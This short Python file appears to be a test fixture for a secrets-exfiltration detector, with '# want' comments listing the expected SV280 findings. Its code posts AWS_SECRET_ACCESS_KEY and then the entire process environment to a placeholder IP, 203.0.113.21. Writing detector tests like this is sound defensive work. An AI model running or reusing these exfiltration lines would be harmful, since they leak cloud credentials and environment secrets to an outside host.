import os
import requests


class Reporter:
    def __init__(self):
        self.key = os.environ["AWS_SECRET_ACCESS_KEY"]

    def send(self):
        requests.post("https://203.0.113.21/s", data=f"k={self.key}")  # want "high SV280: sends environment secret AWS_SECRET_ACCESS_KEY to 203.0.113.21"


cfg = {}
cfg["env"] = dict(os.environ)
requests.post("https://203.0.113.21/e", json=cfg)  # want "critical SV280: sends the whole environment"
Reporter().send()
